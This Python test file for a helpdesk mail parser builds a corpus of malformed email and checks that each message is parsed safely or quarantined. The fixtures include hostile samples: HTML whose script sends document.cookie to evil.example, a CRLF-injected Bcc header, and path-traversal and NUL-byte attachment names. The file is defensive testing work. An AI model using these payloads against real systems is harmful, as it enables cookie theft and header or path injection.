"""A corpus of malformed mail, built here byte by byte: each message is ingested or quarantined with a reason,
never a crash — through the parser alone and through the whole batch pipeline."""

import base64
import contextlib
import time
import tracemalloc

import pytest

from connectors.mail.record import decode_message
from itsm_core.config import EmailConfig
from itsm_core.email.intake import EmailIntake
from itsm_core.errors import MailParseError
from itsm_core.mapping import load_mapping
from itsm_core.models import RawRecord, utcnow
from itsm_core.rules import Rules, RulesConfig
from itsm_core.sync.ingest import SourcePipeline, ingest_batch

HEAD = b"From: Ann <ann@northwind.example>\r\nTo: helpdesk@northwind.example\r\nMessage-ID: <%s@x>\r\n"


def nested(depth: int) -> bytes:
    inner = HEAD % b"n0" + b"Subject: innermost\r\n\r\nbody\r\n"
    for level in range(1, depth):
        inner = (HEAD % f"n{level}".encode()) + b"Subject: fwd\r\nContent-Type: message/rfc822\r\n\r\n" + inner
    return inner


def nested_multipart(depth: int) -> bytes:
    """`depth` multipart/mixed parts, each the only child of the one above, a text at the bottom."""
    body = b"Content-Type: text/plain\r\n\r\nbottom\r\n"
    for level in range(depth):
        boundary = f"L{level}".encode()
        body = (b'Content-Type: multipart/mixed; boundary="' + boundary + b'"\r\n\r\n--' + boundary + b"\r\n"
                + body + b"--" + boundary + b"--\r\n")  # fmt: skip
    return HEAD % b"d200" + b"Subject: deep\r\n" + body


def many_parts(count: int) -> bytes:
    parts = b"".join(b"--P\r\nContent-Type: text/plain\r\n\r\npart %d\r\n" % n for n in range(count))
    return (
        HEAD % b"p10k" + b'Subject: parts\r\nContent-Type: multipart/mixed; boundary="P"\r\n\r\n' + parts + b"--P--\r\n"
    )


HOSTILE_HTML = (
    b'<p>Hi</p><script>fetch("https://evil.example/?c="+document.cookie)</script>'
    b'<a href="javascript:alert(1)">click</a><img src=x onerror="alert(2)"><iframe src="https://evil.example"></iframe>'
)

CORPUS: dict[str, tuple[bytes, str]] = {
    "nested-multipart-x200": (nested_multipart(200), "parsed"),
    "ten-thousand-parts": (many_parts(10_000), "parsed"),
    "header-100kb": (HEAD % b"hk" + b"Subject: big\r\nX-Junk: " + b"j" * 100_000 + b"\r\n\r\nbody\r\n", "parsed"),
    "five-thousand-recipients": (
        HEAD.replace(b"To: helpdesk@northwind.example\r\n", b"") % b"r5k"
        + b"To: "
        + b", ".join(b"user%d@northwind.example" % n for n in range(5000))
        + b"\r\nSubject: all\r\n\r\nb\r\n",
        "parsed",
    ),
    "references-10k": (
        HEAD % b"ref"
        + b"Subject: Re: thread\r\nReferences: "
        + b" ".join(b"<id%d@x>" % n for n in range(10_000))
        + b"\r\n\r\nb\r\n",
        "parsed",
    ),
    "crlf-injection-subject": (
        HEAD % b"crlf" + b"Subject: =?utf-8?Q?hello=0D=0ABcc:_victim@evil.example=0D=0A=0D=0Ainjected?=\r\n\r\nb\r\n",
        "parsed",
    ),
    "nul-in-attachment-name": (
        HEAD % b"nulname" + b'Subject: att\r\nContent-Type: multipart/mixed; boundary="Z"\r\n\r\n--Z\r\n'
        b"Content-Type: text/plain\r\n\r\nsee\r\n--Z\r\nContent-Type: application/octet-stream\r\n"
        b"Content-Disposition: attachment; filename*=utf-8''..%2F..%2Frun%00.exe\r\n\r\nMZ\r\n--Z--\r\n",
        "parsed",
    ),
    "html-with-scripts": (
        HEAD % b"js" + b"Subject: html\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + HOSTILE_HTML + b"\r\n",
        "parsed",
    ),
    "broken-boundary": (
        HEAD % b"b1" + b'Subject: x\r\nContent-Type: multipart/mixed; boundary="AAA"\r\n\r\n--BBB\r\n'
        b"Content-Type: text/plain\r\n\r\nhello\r\n--BBB--\r\n",
        "parsed",
    ),
    "missing-final-boundary": (
        HEAD % b"b2" + b'Subject: x\r\nContent-Type: multipart/mixed; boundary="AAA"\r\n\r\n--AAA\r\n'
        b"Content-Type: text/plain\r\n\r\nhello, never closed\r\n",
        "parsed",
    ),
    "undeclared-8bit": (HEAD % b"u1" + b"Subject: Caf\xe9 cr\xe8me\r\n\r\nPrix: 3\xa0\x80\r\n", "parsed"),
    "unknown-charset": (
        HEAD % b"u2" + b'Subject: =?x-unknown?Q?Gr=FC=DFe?=\r\nContent-Type: text/plain; charset="x-unknown"\r\n\r\n'
        b"Gr\xfc\xdfe\r\n",
        "parsed",
    ),
    "huge-subject": (HEAD % b"h1" + b"Subject: " + b"A" * 200_000 + b"\r\n\r\nbody\r\n", "parsed"),
    "five-thousand-received": (
        HEAD % b"h2" + b"Received: from x by y\r\n" * 5000 + b"Subject: hops\r\n\r\nb\r\n",
        "parsed",
    ),
    "nested-rfc822-x12": (nested(12), "parsed"),
    "winmail-dat": (
        HEAD % b"w1" + b'Subject: tnef\r\nContent-Type: multipart/mixed; boundary="Z"\r\n\r\n--Z\r\n'
        b"Content-Type: text/plain\r\n\r\nsee attached\r\n--Z\r\n"
        b"Content-Type: application/ms-tnef; name=winmail.dat\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.b64encode(b"\x78\x9f\x3e\x22" + bytes(200))
        + b"\r\n--Z--\r\n",
        "parsed",
    ),
    "base64-garbage": (
        HEAD % b"g1" + b"Subject: b64\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not*base64%%%\r\n",
        "parsed",
    ),
    "broken-quoted-printable": (
        HEAD % b"q1" + b"Subject: qp\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nline=\r\nbroken =Z1 =\r\n",
        "parsed",
    ),
    "uuencode": (
        HEAD % b"x1"
        + b"Subject: uu\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\nbegin 644 a.txt\r\n#86)C\r\n`\r\nend\r\n",
        "parsed",
    ),
    "headers-only": (HEAD % b"o1" + b"Subject: no body", "parsed"),
    "lf-and-crlf-mixed": (
        (HEAD % b"m1").replace(b"\r\n", b"\n") + b"Subject: mixed\r\n\nline one\r\nline two\n",
        "parsed",
    ),
    "path-traversal-filename": (
        HEAD % b"p1" + b'Subject: att\r\nContent-Type: multipart/mixed; boundary="Z"\r\n\r\n--Z\r\n'
        b"Content-Type: text/plain\r\n\r\nsee\r\n--Z\r\nContent-Type: text/plain\r\n"
        b'Content-Disposition: attachment; filename="../../etc/passwd"\r\n\r\nroot:x\r\n--Z--\r\n',
        "parsed",
    ),
    "empty-attachment": (
        HEAD % b"e1" + b'Subject: att\r\nContent-Type: multipart/mixed; boundary="Z"\r\n\r\n--Z\r\n'
        b"Content-Type: text/plain\r\n\r\nsee\r\n--Z\r\nContent-Type: application/pdf\r\n"
        b'Content-Disposition: attachment; filename="empty.pdf"\r\n\r\n\r\n--Z--\r\n',
        "parsed",
    ),
    # issue 23: a mail without a sender is still somebody's mail (an "unknown requester" ticket for an agent), and
    # a stray NUL in a header is repaired; only a mail with neither a sender nor any content is refused
    "no-from": (b"To: helpdesk@northwind.example\r\nSubject: who?\r\n\r\nbody\r\n", "parsed"),
    "no-from-no-content": (b"To: helpdesk@northwind.example\r\nSubject: \r\n\r\n\r\n", "quarantined"),
    "nul-in-headers": (b"From: a@b\x00\r\nSubject: nul\r\n\r\nbody\r\n", "parsed"),
    "binary-noise": (bytes(range(256)) * 8, "quarantined"),
    "empty-file": (b"", "quarantined"),
}


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_each_malformed_message_parses_or_is_refused_with_a_reason(name):
    raw, expected = CORPUS[name]
    try:
        mail = decode_message(raw)
    except MailParseError as exc:
        assert expected == "quarantined", f"{name} was refused: {exc}"
        assert str(exc)
        return
    assert expected == "parsed", f"{name} parsed but should be refused"
    assert mail["from_address"] and isinstance(mail["subject"], str)
    assert "\x00" not in mail["text"]
    assert "\r" not in mail["subject"] and "\n" not in mail["subject"]  # no header injection through a subject
    for attachment in mail["attachments"]:
        name = attachment["name"]  # a plain file name: no folder, not hidden, no way up, no NUL
        assert "/" not in name and "\\" not in name and not name.startswith(".") and "\x00" not in name, name
    for shown in (mail.get("html") or "", mail["text"]):
        assert (
            "<script" not in shown and "javascript:" not in shown and "onerror" not in shown and "<iframe" not in shown
        )


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_each_hostile_message_is_read_within_a_time_and_memory_bound(name):
    """Bounds: 10 s and 200 MB above the message's own size per message (the largest here: 10,000 parts)."""
    raw, _ = CORPUS[name]

    def read() -> None:
        with contextlib.suppress(MailParseError):
            decode_message(raw)

    started = time.perf_counter()
    read()  # timed on its own: tracemalloc triples the time of a message of 10,000 parts
    assert time.perf_counter() - started < 10, f"{name}: too slow"
    tracemalloc.start()
    try:
        read()
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert peak < 200 * 1024 * 1024 + 10 * len(raw), f"{name}: {peak / 2**20:.0f} MB"


def test_the_whole_corpus_through_the_pipeline_never_crashes(store):
    pipeline = SourcePipeline(
        "corpus", decode_message, load_mapping("email"), Rules(RulesConfig()),
        intake=EmailIntake(EmailConfig(flood_per_sender=100), "corpus"),  # the corpus has one sender
    )  # fmt: skip
    records = [RawRecord(f"{name}", raw, "eml", utcnow()) for name, (raw, _) in sorted(CORPUS.items())]
    with store.transaction() as conn:
        report = ingest_batch(conn, pipeline, records)
    refused = {name for name, (_, expected) in CORPUS.items() if expected == "quarantined"}
    assert report.quarantined == len(refused)
    assert {note.external_id for note in report.notes} == refused
    assert report.created + report.commented + report.ignored + report.unchanged == len(CORPUS) - len(refused)
